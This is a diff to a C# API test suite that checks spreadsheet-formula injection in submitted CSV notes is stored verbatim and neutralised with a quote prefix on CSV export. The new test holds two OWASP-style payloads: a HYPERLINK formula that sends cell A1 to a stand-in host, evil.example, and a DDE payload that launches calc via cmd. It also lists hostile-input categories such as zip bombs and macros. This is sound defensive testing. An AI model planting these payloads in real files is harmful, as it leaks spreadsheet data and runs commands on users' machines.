@@ -75,10 +75,39 @@ public abstract class BadInputTests(ApiFixture api)
     }
 
     [Fact]
+    public async Task A_formula_in_a_note_is_stored_verbatim_and_neutralised_in_CSV_exports_while_negative_numbers_stay_numbers()
+    {
+        // OWASP "CSV Injection": text a spreadsheet would evaluate is data here; exported to CSV it is prefixed with a quote.
+        const string hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Bấm vào đây\")";
+        const string dde = "-2+3+cmd|' /C calc'!A0";
+        var sheet = "indicator,orgUnit,period,value,status,note\r\n" +
+                    $"GRDP_GROWTH,TQ,2021-Q3,-5,estimate,\"{hyperlink.Replace("\"", "\"\"")}\"\r\n" +
+                    $"GRDP_GROWTH,TQ,2021-Q4,-0.5,estimate,{dde}\r\n";
+        var created = await api.Client("admin").PostAsync("/api/v1/submissions",
+            new StringContent(sheet, Encoding.UTF8, "text/csv"), TestContext.Current.CancellationToken);
+        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
+
+        var reader = api.Client("reader");
+        var json = await (await reader.GetAsync("/api/v1/values?indicator=GRDP_GROWTH&orgUnit=TQ&year=2021", TestContext.Current.CancellationToken)).JsonAsync();
+        Assert.Equal([hyperlink, dde], json.GetProperty("items").EnumerateArray().Select(i => i.GetProperty("note").GetString()));
+        Assert.Equal(["-5", "-0.5"], json.GetProperty("items").EnumerateArray().Select(i => i.GetProperty("value").GetRawText()));
+
+        var csv = CsvText.Parse(await reader.GetStringAsync("/api/v1/values?indicator=GRDP_GROWTH&orgUnit=TQ&year=2021&format=csv", TestContext.Current.CancellationToken));
+        Assert.Equal(["-5", "-0.5"], csv.Skip(1).Select(r => r[3]));
+        Assert.Equal(["'" + hyperlink, "'" + dde], csv.Skip(1).Select(r => r[5]));
+        var history = CsvText.Parse(await reader.GetStringAsync("/api/v1/values/history?indicator=GRDP_GROWTH&orgUnit=TQ&period=2021-Q3&format=csv", TestContext.Current.CancellationToken));
+        Assert.Equal("'" + hyperlink, history[1][history[0].IndexOf("note")]);
+        Assert.Equal("-5", history[1][history[0].IndexOf("value")]);
+    }
+
+    [Fact]
     public void The_corpus_covers_every_kind_of_hostile_input_the_issue_names()
     {
         var names = string.Join("\n", Corpus.Value.Keys);
-        foreach (var topic in new[] { "malformed JSON", "1e400", "NaN", "Infinity", "min is 0", "too many decimals", "10,001 items", "20 MB", "duplicate", "unknown", "SQL injection", "script", "lower-case", "blank", "Cyrillic", "future period", "2020-02-30", "empty body", "content type", "query string", "page",
+        foreach (var topic in new[] { "zip bomb", "truncated", "not a zip", "external link", "macros", "formula", "shared-string table", "10,001 rows",
+                     "unbalanced quote", "NUL", "invalid UTF-8", "UTF-16", "windows-1258", "malformed JSON", "1e400", "NaN", "Infinity", "min is 0",
+                     "too many decimals", "10,001 items", "20 MB", "duplicate", "unknown", "SQL injection", "script", "lower-case", "blank", "Cyrillic",
+                     "future period", "2020-02-30", "empty body", "content type", "query string", "page",
                      "schedule:", "reporting status", "approval:", "reopening", "huge lists", "unknown field" })
         {
             Assert.Contains(topic, names, StringComparison.OrdinalIgnoreCase);
@@ -103,6 +132,10 @@ public abstract class BadInputTests(ApiFixture api)
         else if (c["bodyBase64"] is { } b64)
         {
             body = Convert.FromBase64String(((string)b64!).Replace('-', '+').Replace('_', '/'));
+        }
+        else if (c["generate"] is JsonObject { } sheet && sheet["sheet"] is { } name)
+        {
+            body = HostileSheets.Body((string)name!);
         }
         else if (c["generate"] is JsonObject generate)
         {
